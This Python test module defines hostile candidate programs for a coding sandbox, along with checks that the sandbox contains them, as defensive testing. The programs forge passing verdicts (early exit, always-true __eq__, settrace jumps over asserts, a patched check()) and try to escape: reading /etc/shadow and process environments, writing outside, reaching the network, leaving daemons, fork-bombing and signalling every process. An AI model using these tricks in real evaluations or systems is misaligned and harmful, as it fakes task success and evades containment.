"""Hostile "solutions" for the coding sandbox and the checks that say whether each was contained.

Every program answers the item ``add(x, y)`` (tests: ``add(2, 3) == 5``, ``add(-1, 1) == 0``,
``add(10, 5) == 15``) without solving it, and tries one escape: forge the verdict, read or write the host, reach
the network, outlive the check, exhaust a resource, or hit the scorer or the checker with signals. Placeholders
filled per program by ``render``: ``@TOKEN@`` (unique; names escape files and daemons' command lines),
``@SECRETS@`` (paths of marker files holding a secret, in the project, $HOME and the host's /tmp),
``@WRITE_DIRS@`` (host folders it tries to write into), ``@PORT@``/``@UDP@`` (listeners on the host's loopback).
Programs never print the paths they are given, only what they manage to read, so any secret or marker name in
their output means it was read from the host.

``contained(result, ctx, token)`` lists what went wrong (empty when contained): a pass, a file written outside,
a secret or the checker's test in the output, a process left (from the result, the sandbox's uids in /proc and
the token in any command line).

Used by tests/test_sandbox_escapes.py and by ``compare.py`` (the same programs against another checkout).
"""

from __future__ import annotations

import os
import socket
import tempfile
import textwrap
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
ENTRY = "add"


DEFAULT_TEST = ("def check(candidate):\n"
                "    assert candidate(2, 3) == 5\n"
                "    assert candidate(-1, 1) == 0\n"
                "    assert candidate(10, 5) == 15\n")
FLOAT_TEST = ("import math\n\n"
              "def check(candidate):\n"
              "    assert abs(candidate(0.5, 0.25) - 0.75) < 1e-9\n"
              "    assert math.isclose(candidate(1.5, 1.0), 2.5)\n")


def checker_test(checker_secret: str, body: str = DEFAULT_TEST) -> str:
    """The item's test program, with a secret line a candidate that reads it would leak."""
    return f"# checker secret: {checker_secret}\n{body}"


def _p(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    tries: str
    code: str
    checker_must_answer: bool = False  # the checker's verdict must survive (signals aimed at it)
    test: str = DEFAULT_TEST  # the check it faces (builtins forgeries need a test that calls builtins)


PROGRAMS: tuple[Hostile, ...] = (
    # -- forging the verdict ---------------------------------------------------------------------------------
    Hostile("exit0_at_import", "sys.exit(0) before any check", _p("""
        import sys
        def add(x, y):
            return 0
        sys.exit(0)
    """)),
    Hostile("os_exit0_at_import", "os._exit(0) before any check", _p("""
        import os
        def add(x, y):
            return 0
        os._exit(0)
    """)),
    Hostile("execv_at_import", "replace the process by /bin/true", _p("""
        import os
        def add(x, y):
            return 0
        os.execv("/bin/true", ["true"])
    """)),
    Hostile("exit0_in_call", "sys.exit(0) inside the call", _p("""
        import sys
        def add(x, y):
            sys.exit(0)
    """)),
    Hostile("os_exit0_in_call", "os._exit(0) inside the call", _p("""
        import os
        def add(x, y):
            os._exit(0)
    """)),
    Hostile("execv_in_call", "exec a new Python that prints and exits 0, inside the call", _p("""
        import os, sys
        def add(x, y):
            os.execv(sys.executable, [sys.executable, "-c", "print('passed')"])
    """)),
    Hostile("keyboardinterrupt_in_call", "raise KeyboardInterrupt (a BaseException) in the call", _p("""
        def add(x, y):
            raise KeyboardInterrupt
    """)),
    Hostile("token_from_source", "read the pass token from its own source and every file it can see", _p("""
        import os, re, sys
        def add(x, y):
            return 0
        for root in ["/sandbox", os.getcwd(), os.path.dirname(os.path.abspath(sys.argv[0]))]:
            for dirpath, _, files in os.walk(root):
                for f in files:
                    try:
                        for tok in re.findall(r"[0-9a-f]{32}", open(os.path.join(dirpath, f)).read()):
                            print(tok)
                    except OSError:
                        pass
        sys.stdout.flush()
        os._exit(0)
    """)),
    Hostile("token_from_co_consts", "scan every frame's co_consts for the pass token, print it, exit 0", _p("""
        import os, re, sys
        def add(x, y):
            return 0
        f = sys._getframe()
        while f is not None:
            for c in f.f_code.co_consts:
                if isinstance(c, str) and re.fullmatch(r"[0-9a-f]{32}", c):
                    print(c)
            f = f.f_back
        sys.stdout.flush()
        os._exit(0)
    """)),
    Hostile("settrace_jump_over_check", "sys.settrace hook that jumps over check() and over asserts", _p("""
        import linecache, sys
        def add(x, y):
            return 0
        def tracer(frame, event, arg):
            if event == "line":
                line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                try:
                    if line.startswith("check(") or line.startswith("assert"):
                        frame.f_lineno = frame.f_lineno + 1
                except ValueError:
                    pass
            return tracer
        sys.settrace(tracer)
        sys._getframe().f_trace = tracer
    """)),
    Hostile("custom_eq_object", "return an object whose __eq__ is always True", _p("""
        class Any:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        def add(x, y):
            return Any()
    """)),
    Hostile("int_subclass_eq", "return an int subclass whose __eq__ is always True", _p("""
        class Liar(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__
        def add(x, y):
            return Liar(0)
    """)),
    Hostile("str_subclass_eq", "return a str subclass whose __eq__ is always True", _p("""
        class Liar(str):
            def __eq__(self, other): return True
            __hash__ = str.__hash__
        def add(x, y):
            return Liar("5")
    """)),
    Hostile("excepthook_exit0", "sys.excepthook that prints the token from co_consts and exits 0", _p("""
        import os, re, sys
        def add(x, y):
            return 0
        TOKENS = [c for c in sys._getframe().f_code.co_consts if isinstance(c, str) and re.fullmatch("[0-9a-f]{32}", c)]
        def hook(*args):
            print(*TOKENS); sys.stdout.flush(); os._exit(0)
        sys.excepthook = hook
    """)),
    Hostile("atexit_exit0", "atexit handler that prints the token from co_consts and exits 0", _p("""
        import atexit, os, re, sys
        def add(x, y):
            return 0
        TOKENS = [c for c in sys._getframe().f_code.co_consts if isinstance(c, str) and re.fullmatch("[0-9a-f]{32}", c)]
        def bye():
            print(*TOKENS); sys.stdout.flush(); os._exit(0)
        atexit.register(bye)
    """)),
    Hostile("patched_builtins", "patch builtins.abs and math.isclose that the test's float checks call", _p("""
        import builtins, math
        builtins.abs = lambda x: 0
        math.isclose = lambda *a, **k: True
        builtins.isinstance = lambda *a: True
        def add(x, y):
            return 0
    """), test=FLOAT_TEST),
    Hostile("monkeypatch_checker_module", "replace the test's check() once defined; rewrite the harness", _p("""
        import sys
        h = sys.modules["__main__"]
        for name in ("encode", "decode"):
            if hasattr(h, name):
                setattr(h, name, lambda *a, **k: 5)
        def add(x, y):
            return 0
        def noop(candidate):
            return None
        def tracer(frame, event, arg):
            g = frame.f_globals
            if event == "line" and callable(g.get("check")) and g["check"] is not noop:
                g["check"] = noop
            return tracer
        sys.settrace(tracer)
        sys._getframe().f_trace = tracer
    """)),
    Hostile("forged_verdict_all_fds", "write a passing verdict on every file descriptor, then exit 0", _p("""
        import os
        def add(x, y):
            return 0
        verdict = b'{"passed": true, "kind": "passed", "detail": "passed", "calls": 3}\\n'
        for fd in range(0, 1024):
            try:
                os.write(fd, b'{"ready": true}\\n' + verdict)
            except OSError:
                pass
        os._exit(0)
    """)),
    Hostile("forged_reply_tag", "answer calls with a forged wire value (unknown tag) before being asked", _p("""
        import os
        def add(x, y):
            return 0
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"id": 0, "return": {"$": "any", "v": 5}}\\n')
            except OSError:
                pass
    """)),
    Hostile("huge_reply", "return a 20 MB string (over the message limit)", _p("""
        def add(x, y):
            return "5" * (20 << 20)
    """)),
    Hostile("deep_nesting", "return a list nested 100000 deep", _p("""
        def add(x, y):
            v = []
            for _ in range(100000):
                v = [v]
            return v
    """)),
    # -- reading the host ------------------------------------------------------------------------------------
    Hostile("read_host_files", "read /etc/passwd, /etc/shadow, the project, $HOME and /tmp markers", _p("""
        import os
        def add(x, y):
            return 0
        for path in @SECRETS@ + ["/etc/passwd", "/etc/shadow", os.path.expanduser("~root/.bashrc"),
                                 "/proc/self/environ", "/proc/1/environ"]:
            try:
                print(open(path, errors="replace").read())
            except OSError:
                pass
    """)),
    Hostile("walk_host_fs", "walk / for files named like secrets and print their names", _p("""
        import os
        def add(x, y):
            return 0
        for dirpath, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr")]
            for f in dirs + files:
                if "secret" in f:
                    print("FOUND", f)
    """)),
    Hostile("read_checker_test", "look for the checker's test program anywhere and print it", _p("""
        import os
        def add(x, y):
            return 0
        for dirpath, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr")]
            for f in files:
                try:
                    text = open(os.path.join(dirpath, f), errors="replace").read(1 << 20)
                except OSError:
                    continue
                if "def check(" in text and "checker secret" in text:
                    print(text)
    """)),
    Hostile("scorer_environment", "print its environment and the scorer's (via /proc)", _p("""
        import os
        def add(x, y):
            return 0
        print(dict(os.environ))
        for pid in [os.getppid(), 1] + list(range(2, 50)):
            try:
                print(open(f"/proc/{pid}/environ", "rb").read())
            except OSError:
                pass
    """)),
    Hostile("exfiltrate_via_exception", "raise an exception whose message carries host secrets", _p("""
        def add(x, y):
            data = []
            for path in @SECRETS@ + ["/etc/passwd"]:
                try:
                    data.append(open(path).read())
                except OSError:
                    pass
            raise ValueError("".join(data) or "nothing read")
    """)),
    # -- writing the host ------------------------------------------------------------------------------------
    Hostile("write_outside", "write a file into the project, $HOME, /tmp, /var/tmp, /dev/shm, /work", _p("""
        import os
        def add(x, y):
            return 0
        for d in @WRITE_DIRS@:
            try:
                with open(os.path.join(d, "escape-@TOKEN@"), "w") as fh:
                    fh.write("pwned")
            except OSError:
                pass
        for target in ["/sandbox/harness.py", "/sandbox/solution.py"]:
            try:
                open(target, "a").write("# pwned")
            except OSError:
                pass
    """)),
    Hostile("symlink_and_hardlink", "write through symlinks and hard links it makes in /tmp", _p("""
        import os
        def add(x, y):
            return 0
        for i, d in enumerate(@WRITE_DIRS@):
            link = f"/tmp/link{i}"
            try:
                os.symlink(os.path.join(d, "escape-@TOKEN@"), link)
                open(link, "w").write("pwned")
            except OSError:
                pass
        try:
            os.link("/etc/passwd", "/tmp/passwd")
            print(open("/tmp/passwd").read())
        except OSError:
            pass
    """)),
    Hostile("disk_fill", "fill its /tmp, cwd and /dev/shm with 8 MB files", _p("""
        import os
        def add(x, y):
            for d in ["/tmp", os.getcwd(), "/dev/shm"]:
                try:
                    for i in range(64):
                        with open(os.path.join(d, f"fill{i}-@TOKEN@"), "wb") as fh:
                            fh.write(b"x" * (8 << 20))
                except OSError:
                    pass
            return 0
    """)),
    Hostile("stdout_flood", "print 100 MB to stdout", _p("""
        import sys
        def add(x, y):
            chunk = "x" * (1 << 20)
            for _ in range(100):
                sys.stdout.write(chunk)
            return 0
    """)),
    # -- network ---------------------------------------------------------------------------------------------
    Hostile("network_tcp", "connect to a listener on the host's loopback and to 1.1.1.1:53", _p("""
        import socket
        def add(x, y):
            for addr in [("127.0.0.1", @PORT@), ("1.1.1.1", 53)]:
                try:
                    s = socket.create_connection(addr, timeout=1)
                    s.sendall(b"escape-@TOKEN@")
                    print("CONNECTED", addr)
                except OSError:
                    pass
            return 0
    """)),
    Hostile("network_udp_dns", "send UDP to the host's loopback and resolve a name", _p("""
        import socket
        def add(x, y):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"escape-@TOKEN@", ("127.0.0.1", @UDP@))
            except OSError:
                pass
            try:
                print("RESOLVED", socket.getaddrinfo("pypi.org", 443))
            except OSError:
                pass
            return 0
    """)),
    # -- processes that outlive the check --------------------------------------------------------------------
    Hostile("orphan_daemon", "double fork, setsid, exec a long sleep", _p("""
        import os, sys
        def add(x, y):
            return 0
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "@TOKEN@"])
            os._exit(0)
    """)),
    Hostile("daemon_ignoring_signals", "a child that ignores SIGTERM/SIGHUP/SIGINT and spins", _p("""
        import os, signal, sys
        def add(x, y):
            if os.fork() == 0:
                for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(s, signal.SIG_IGN)
                os.execv(sys.executable, [sys.executable, "-c", "while True: pass", "@TOKEN@"])
            return 0
    """)),
    Hostile("detached_subprocess", "subprocess.Popen in a new session, then return", _p("""
        import subprocess
        def add(x, y):
            subprocess.Popen(["/bin/sh", "-c", "sleep 120; : @TOKEN@"], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            return 0
    """)),
    Hostile("pipe_holder_child", "a child keeps the protocol pipes open after the parent exits", _p("""
        import os, sys, time
        def add(x, y):
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "@TOKEN@"])
            os._exit(0)
    """)),
    # -- resource exhaustion ---------------------------------------------------------------------------------
    Hostile("fork_bomb", "fork without end", _p("""
        import os
        def add(x, y):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """)),
    Hostile("memory_bomb", "allocate 4 GB, then grow a list without end", _p("""
        def add(x, y):
            try:
                b = bytearray(4 << 30)
            except MemoryError:
                pass
            grow = []
            while True:
                grow.append(bytearray(64 << 20))
    """)),
    Hostile("thread_bomb", "start 10000 threads", _p("""
        import threading, time
        def add(x, y):
            threads = []
            for _ in range(10000):
                t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
                t.start()
                threads.append(t)
            return 0
    """)),
    Hostile("fd_exhaustion", "open /dev/null 100000 times", _p("""
        def add(x, y):
            fds = [open("/dev/null") for _ in range(100000)]
            return 0
    """)),
    Hostile("infinite_loop_at_import", "spin at import time", _p("""
        def add(x, y):
            return 0
        while True:
            pass
    """)),
    Hostile("cpu_burn_in_call", "spin inside the call", _p("""
        def add(x, y):
            while True:
                pass
    """)),
    Hostile("block_forever_in_call", "sleep inside the call", _p("""
        import time
        def add(x, y):
            time.sleep(1000)
    """)),
    # -- signals and privileges ------------------------------------------------------------------------------
    Hostile("signal_everything", "SIGKILL/SIGSTOP every pid it can name, its parent, -1", _p("""
        import os, signal
        def add(x, y):
            me = os.getpid()
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                for pid in [os.getppid(), 1, -1] + list(range(2, 4096)):
                    if pid != me:
                        try:
                            os.kill(pid, sig)
                        except OSError:
                            pass
            return 0
    """), checker_must_answer=True),
    Hostile("signal_process_groups", "SIGKILL every process group and session it can name", _p("""
        import os, signal
        def add(x, y):
            for pgid in range(1, 4096):
                if pgid != os.getpgid(0):
                    try:
                        os.killpg(pgid, signal.SIGKILL)
                    except OSError:
                        pass
            return 0
    """), checker_must_answer=True),
    Hostile("ctypes_syscalls", "ctypes: setuid(0), unshare, mount, ptrace, chroot", _p("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        results = [libc.setuid(0), libc.unshare(0x10000000 | 0x00020000), libc.unshare(0x40000000),
                   libc.mount(b"none", b"/", b"tmpfs", 0, None), libc.ptrace(16, 1, None, None),
                   libc.chroot(b"/tmp")]
        print("SYSCALLS", results)
        def add(x, y):
            return 0
    """)),
    Hostile("nested_sandbox", "start unshare/bwrap inside to get a new user namespace", _p("""
        import subprocess
        def add(x, y):
            for cmd in (["unshare", "-Ur", "cat", "/etc/passwd"],
                        ["bwrap", "--bind", "/", "/", "cat", "/etc/passwd"]):
                try:
                    print(subprocess.run(cmd, capture_output=True, text=True, timeout=2).stdout)
                except (OSError, subprocess.SubprocessError):
                    pass
            return 0
    """)),
)


@dataclass
class Context:
    """What the programs aim at: secrets to read, folders to write, listeners to reach."""

    secrets: list[str]  # strings that must never appear in a sandbox's output
    secret_paths: list[Path]
    write_dirs: list[Path]
    checker_secret: str
    env_secret: str
    port: int
    udp_port: int
    contacts: list[str] = field(default_factory=list)  # what the listeners received


def render(program: Hostile, ctx: Context, token: str) -> str:
    return (program.code.replace("@TOKEN@", token)
            .replace("@SECRETS@", repr([str(p) for p in ctx.secret_paths]))
            .replace("@WRITE_DIRS@", repr([str(d) for d in ctx.write_dirs]))
            .replace("@PORT@", str(ctx.port)).replace("@UDP@", str(ctx.udp_port)))


@contextmanager
def hostile_context() -> Iterator[Context]:
    """Marker files with a secret in the project, $HOME and /tmp, a secret in the environment, a TCP and a
    UDP listener on the host's loopback; all removed afterwards."""
    content, name = uuid.uuid4().hex, uuid.uuid4().hex
    paths = [REPO / f".sandbox-secret-{name}", Path.home() / f".sandbox-secret-{name}",
             Path(tempfile.gettempdir()) / f"sandbox-secret-{name}"]
    env_secret = uuid.uuid4().hex
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    ctx = Context(secrets=[content, name, env_secret, "root:x:0:0"], secret_paths=paths,
                  write_dirs=[REPO, REPO / "tests", Path.home(), Path(tempfile.gettempdir()), Path("/var/tmp"),
                              Path("/dev/shm"), REPO.parent],
                  checker_secret=uuid.uuid4().hex, env_secret=env_secret,
                  port=tcp.getsockname()[1], udp_port=udp.getsockname()[1])
    ctx.secrets.append(ctx.checker_secret)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            for sock in (tcp, udp):
                try:
                    if sock is tcp:
                        conn, addr = tcp.accept()
                        ctx.contacts.append(f"tcp from {addr}")
                        conn.close()
                    else:
                        data, addr = udp.recvfrom(4096)
                        ctx.contacts.append(f"udp {data!r} from {addr}")
                except OSError:
                    pass

    for p in paths:
        p.write_text(content)
    old_env = os.environ.get("MOCOFLOW_ESCAPE_SECRET")
    os.environ["MOCOFLOW_ESCAPE_SECRET"] = env_secret
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    try:
        yield ctx
    finally:
        stop.set()
        thread.join()
        tcp.close()
        udp.close()
        for p in paths:
            p.unlink(missing_ok=True)
        if old_env is None:
            os.environ.pop("MOCOFLOW_ESCAPE_SECRET", None)
        else:
            os.environ["MOCOFLOW_ESCAPE_SECRET"] = old_env


def _live_processes() -> list[tuple[int, int, str]]:
    """(pid, uid, command line) of every live, non-zombie process."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            stat = Path(f"/proc/{name}/stat").read_bytes().rsplit(b")", 1)[1].split()
            uid = os.stat(f"/proc/{name}").st_uid
            cmd = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError):
            continue
        if stat[0] != b"Z":
            out.append((int(name), uid, cmd))
    return out


def written_outside(ctx: Context, token: str) -> list[str]:
    found = []
    for d in ctx.write_dirs:
        try:
            found += [str(p) for p in d.iterdir() if token in p.name]
        except OSError:
            continue
    return found


def cleanup_written(ctx: Context, token: str) -> None:
    for path in written_outside(ctx, token):
        Path(path).unlink(missing_ok=True)


def contained(result: Any, ctx: Context, token: str, program: Hostile) -> list[str]:
    """What went wrong (empty: contained). ``result`` is a ``sandbox.CheckResult``."""
    problems = []
    if result.passed:
        problems.append(f"PASSED ({result.kind}: {result.detail[:200]})")
    problems += [f"wrote {p}" for p in written_outside(ctx, token)]
    seen = "\n".join([result.candidate_stdout, result.candidate_stderr, result.checker_stderr, result.detail])
    problems += [f"output holds host data {s[:12]}..." for s in ctx.secrets if s in seen]
    if result.leftover:
        problems.append(f"leftover pids {result.leftover}")
    for pid, uid, cmd in _live_processes():
        if uid in result.uids or token in cmd:
            problems.append(f"process left: {pid} uid {uid} {cmd[:120]}")
    if program.checker_must_answer and result.kind in ("checker_failed",):
        problems.append(f"the checker was hit: {result.kind}: {result.detail[:200]}")
    return problems
